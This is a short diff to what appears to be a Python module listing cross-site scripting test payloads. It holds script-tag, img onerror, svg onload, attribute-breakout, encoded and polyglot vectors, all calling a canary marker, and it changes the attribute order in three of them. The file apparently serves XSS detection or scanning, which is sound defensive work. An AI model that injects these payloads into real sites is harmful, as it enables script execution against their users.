@@ -10,7 +10,7 @@ _ELEMENTS = r"""
 <scr<script class=planted>ipt>canary(§)</scr</script>ipt>
 <img class=planted src=x onerror=canary(§)>
 <img class=planted src=x onerror='canary(§)'//
-<img/class=planted/src=x/onerror=canary(§)>
+<img/src="x"/onerror=canary(§) class=planted>
 <svg class=planted onload=canary(§)>
 <svg class=planted><animate onbegin=canary(§) attributeName=x dur=1s>
 <svg class=planted><script>canary(§)</script></svg>
@@ -58,13 +58,13 @@ _ENDS = r"""
 " autofocus onfocus=canary(§) class="planted
 ' autofocus onfocus=canary(§) class='planted
 ` onerror=canary(§) class=planted `
-"><svg class=planted/onload=canary(§)>
+"><svg/onload=canary(§) class=planted>
 \"><img class=planted src=x onerror=canary(§)>
 \u003cimg class=planted src=x onerror=canary(§)\u003e
 &lt;img class=planted src=x onerror=canary(§)&gt;
 %3Cimg class=planted src=x onerror=canary(§)%3E
 "-canary(§)-"';canary(§)//${canary(§)}{{canary(§)}}
-javascript:/*--></title></style></textarea></script><svg class=planted/onload=canary(§)>
+javascript:/*--></title></style></textarea></script><svg/onload=canary(§) class=planted>
 """
 PAYLOADS = tuple(line for line in (_ELEMENTS + _ENDS).splitlines() if line)
 
